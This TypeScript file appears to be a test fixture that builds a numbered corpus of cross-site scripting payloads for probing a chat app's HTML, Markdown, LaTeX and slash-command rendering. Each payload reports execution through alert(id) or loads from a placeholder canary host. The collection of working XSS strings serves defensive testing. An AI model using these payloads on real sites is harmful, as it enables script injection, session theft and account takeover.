/** A host that nobody has. Only a script that should not run asks it for `/ran/…`. */
export const canary = 'canary.example';

type Payload = (id: number) => string;

/** Texts that run `alert(id)` or ask the canary where somebody takes them for HTML, an attribute, an address or a script. */
const texts: readonly Payload[] = [
  (id) => `<img src=x onerror=alert(${id})>`,
  (id) => `"><svg onload=alert(${id})>`,
  (id) => `'"><script>alert(${id})</script>`,
  (id) => `</title></script><script>alert(${id})</script>`,
  (id) => `javascript:alert(${id})`,
  (id) => `java\tscript:alert(${id})//`,
  (id) => `" autofocus onfocus=alert(${id}) x="`,
  (id) => `' onmouseover='alert(${id})`,
  (id) => `&lt;img src=x onerror=alert(${id})&gt;`,
  (id) => `%3Cimg src=x onerror=alert(${id})%3E`,
  (id) => `<details open ontoggle=alert(${id})>`,
  (id) => `\${alert(${id})}{{alert(${id})}}`,
];

/** Texts that need more room than a name has. */
const longTexts: readonly Payload[] = [
  (id) => `<iframe src="javascript:parent.alert(${id})"></iframe>`,
  (id) => `<iframe srcdoc="<script>parent.alert(${id})</script>"></iframe>`,
  (id) => `<meta http-equiv="refresh" content="0;url=https://${canary}/ran/${id}">`,
  (id) =>
    `<link rel="stylesheet" href="https://${canary}/ran/${id}"><style>@import "//${canary}/ran/${id}"</style>`,
  (id) => `<object data="https://${canary}/ran/${id}"></object><embed src="//${canary}/ran/${id}">`,
  (id) =>
    `<base href="https://${canary}/ran/"><form id=f><button form=f formaction=javascript:alert(${id})>ok</button>`,
  (id) => `<noscript><p title="</noscript><img src=x onerror=alert(${id})>">`,
  (id) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(${id})>">`,
  (id) => `<svg><style><img title="</style><img src=x onerror=alert(${id})>"></style></svg>`,
  (id) =>
    `<svg><animate onbegin=alert(${id}) attributeName=x dur=1s></svg><video src=x onerror=alert(${id})></video>`,
  (id) => `<a href="javascript:alert(${id})" id="main" name="app">Press</a><img name=body id=root>`,
  (id) => `<script type="module" src="https://${canary}/ran/${id}"></script>`,
];

/** What Markdown makes elements, attributes and addresses of. */
const markdown: readonly Payload[] = [
  (id) => `[link](javascript:alert(${id}))`,
  (id) => `[link](  JaVaScRiPt:alert(${id}) "title\\" onmouseover=alert(${id})")`,
  (id) => `[link](data:text/html,<script>alert(${id})</script>)`,
  (id) => `[<img src=x onerror=alert(${id})>](https://ex.example/"onmouseover="alert(${id}))`,
  (id) => `![" onerror="alert(${id})](https://ex.example/a.mp3"onerror="alert(${id}))`,
  (id) => `[v.mp4](/user_uploads/1/aa/v.mp4"onerror="alert(${id}))`,
  (id) => `\`\`\`"onmouseover="alert(${id})\n<img src=x onerror=alert(${id})>\n\`\`\``,
  (id) =>
    `\`\`\`spoiler <img src=x onerror=alert(${id})> "onclick=alert(${id})\n<svg onload=alert(${id})>\n\`\`\``,
  (id) => `\`\`\`quote\n<img src=x onerror=alert(${id})>\n\`\`\``,
  (id) => `$$\\href{javascript:alert(${id})}{x} \\url{javascript:alert(${id})}$$`,
  (id) =>
    `$$\\htmlData{x=y}{a} \\htmlStyle{background:url(//${canary}/ran/${id})}{a} \\includegraphics{//${canary}/ran/${id}}$$`,
  (id) => `\`\`\`math\n\\text{<img src=x onerror=alert(${id})>} \\unicode{<svg onload=alert(${id})>}\n\`\`\``,
  (id) => `<time:"><img src=x onerror=alert(${id})>>`,
  (id) =>
    `@**<img src=x onerror=alert(${id})>** @*"><svg onload=alert(${id})>* #**"><svg onload=alert(${id})>>x**`,
  (id) => `:"><img src=x onerror=alert(${id})>: :<svg/onload=alert(${id})>:`,
  (id) =>
    `| a | b |\n|---|:-"onmouseover=alert(${id}):|\n| <img src=x onerror=alert(${id})> | <svg onload=alert(${id})> |`,
  (id) => `hostile-${id} and hostile-"onmouseover=alert(${id})`,
  (id) =>
    `https://youtu.be/abcdefghijk"onload=alert(${id}) https://ex.example/"><img/src=x/onerror=alert(${id})>`,
  (id) => `/me <img src=x onerror=alert(${id})>`,
  (id) => `/poll <img src=x onerror=alert(${id})>\n"><svg onload=alert(${id})>\njavascript:alert(${id})`,
  (id) =>
    `/todo <img src=x onerror=alert(${id})>\n<svg onload=alert(${id})>: <img src=x onerror=alert(${id})>`,
  (id) => `[x](#narrow/channel/1/topic/.3Cimg.20src=x.20onerror=alert.28${id}.29.3E)`,
  (id) => `\u202e<img src=x onerror=alert(${id})>\u0000\u2028</script>`,
];

/** Where each payload was put, by the number that it reports. */
export interface Corpus {
  /** A payload of each kind for one place, with at most so many characters. */
  textsFor(place: string, lengthMax?: number): string[];
  markdownFor(place: string): string[];
  /** A number for a payload that is written at its place. */
  number(place: string): number;
  /** Says where a number was put. */
  placeOf(id: number): string;
}

export function createCorpus(): Corpus {
  const places: string[] = [];
  const number = (place: string) => places.push(place) - 1;
  const write = (payloads: readonly Payload[], place: string) =>
    payloads.map((payload) => payload(number(place)));
  return {
    number,
    textsFor(place, lengthMax = Infinity) {
      const written = write([...texts, ...longTexts], place);
      return written.filter(({ length }) => length <= lengthMax);
    },
    markdownFor: (place) => write(markdown, place),
    placeOf: (id) => places[id] ?? 'an unknown place',
  };
}
